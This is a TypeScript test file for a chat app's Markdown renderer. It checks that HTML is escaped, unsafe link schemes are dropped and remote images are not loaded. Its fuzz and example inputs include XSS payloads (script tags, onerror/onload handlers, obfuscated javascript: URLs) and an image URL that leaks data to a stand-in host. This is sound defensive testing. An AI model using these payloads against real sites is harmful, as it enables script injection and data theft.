import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { MarkdownText, safeUrl } from './markdown-text.tsx'

const html = (text: string) => renderToStaticMarkup(<MarkdownText text={text} />)
/** The elements of a page, each as its start tag; text cannot look like one, since `<` is escaped in it. */
const tags = (page: string) => page.match(/<[a-z][^>]*>/gi) ?? []
const allowedTags =
  /^<(?:div|p|br|strong|em|del|a|span|code|pre|h[1-6]|ul|ol|li|input|blockquote|hr|button|table|thead|tbody|tr|th|td|section|sup)\b/

test('an answer is Markdown with line breaks, tables, task lists, strike-through and plain addresses as links [CHT-07]', () => {
  expect(html('one\ntwo')).toContain('one<br/>\ntwo')
  expect(html('| a | b |\n| - | - |\n| 1 | 2 |')).toContain('<td>1</td>')
  expect(html('- [x] done')).toMatch(/<input type="checkbox"[^>]*checked=""/)
  expect(html('~~old~~ **new** `code`')).toContain(
    '<del>old</del> <strong>new</strong> <code>code</code>',
  )
  expect(html('see https://example.org/a')).toContain('href="https://example.org/a"')
})

test('HTML in an answer is shown as text [CHT-07]', () => {
  const page = html('<b onclick="steal()">bold</b> and\n\n<script>steal()</script>')
  expect(page).toContain('&lt;b onclick=')
  expect(page).toContain('&lt;script&gt;steal()&lt;/script&gt;')
  expect(tags(page).every((tag) => allowedTags.test(tag))).toBe(true)
})

test('a text that cannot be parsed is shown as it is written [CHT-07]', () => {
  const text = '>'.repeat(20_000)
  expect(html(text)).toContain(`<p class="raw">${'&gt;'.repeat(20_000)}</p>`)
})

test('a link opens in a new tab without a way back; other schemes are no link [CHT-08]', () => {
  expect(html('[go](https://example.org)')).toContain(
    '<a class="link" href="https://example.org" target="_blank" rel="noopener noreferrer">go</a>',
  )
  expect(html('[mail](mailto:a@b.org)')).toContain('href="mailto:a@b.org"')
  for (const url of [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://a/b',
    '/settings',
    '//evil.example',
  ]) {
    expect(html(`[go](${url})`)).not.toContain('href')
    expect(safeUrl(url)).toBe('')
  }
})

test('a picture of another host is never loaded: a link with the full host stands in its place: threat T11 [CHT-08]', () => {
  const page = html('![pixel](https://sub.evil.example:8443/p.gif?d=secret)')
  expect(page).not.toContain('<img')
  expect(page).toContain('sub.evil.example:8443')
  expect(page).toContain('rel="noopener noreferrer"')
  expect(html('![note](javascript:alert(1))')).toContain('<p><span>note</span></p>')
  expect(html('![ref][1]\n\n[1]: https://evil.example/x.png')).not.toContain('<img')
})

test('a block of code can be copied [CHT-08]', () => {
  const page = html('```js\nlet a = 1\n```')
  expect(page).toContain('<button type="button"')
  expect(page).toContain('>Copy</button>')
  expect(page).toContain('let a = 1')
})

test('whatever the model writes, no script, handler, picture or other scheme comes of it: threat T10', () => {
  const piece = fc.constantFrom(
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>x</script>">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<style>@import "//evil"</style>',
    '<a href="javascript:alert(1)">',
    '[a](javascript:alert(1))',
    '[a](java\nscript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](\u0001javascript:x)',
    '![a](data:image/svg+xml,<svg>)',
    '![a](https://evil.example/?d=1)',
    '[x]: javascript:alert(1)\n\n[x]',
    '<javascript:alert(1)>',
    '<https://ok.example/">',
    '`',
    '```html\n',
    '\n\n',
    '> ',
    '- ',
    '| a |\n| - |\n',
    '**',
    '[^1]',
    '[^1]: note\n',
    '\\',
    ' ',
  )
  const text = fc
    .array(fc.oneof(piece, fc.string()), { maxLength: 12 })
    .map((parts) => parts.join(''))
  fc.assert(
    fc.property(text, (written) => {
      for (const tag of tags(html(written))) {
        expect(tag).toMatch(allowedTags)
        expect(tag).not.toMatch(/\s(?:on\w+|style|srcdoc|src)=/i)
        const href = /href="([^"]*)"/.exec(tag)?.[1]
        if (href !== undefined) expect(href).toMatch(/^(?:https?:|mailto:)/i)
      }
    }),
    { numRuns: 1_000 },
  )
})

test('an English answer in a Chinese chat keeps its own quotes', () => {
  expect(html('Began from “Spines”.')).toContain('<div class="answer" lang="en">')
  expect(html('从“Spines”开始。')).toContain('<div class="answer">')
})
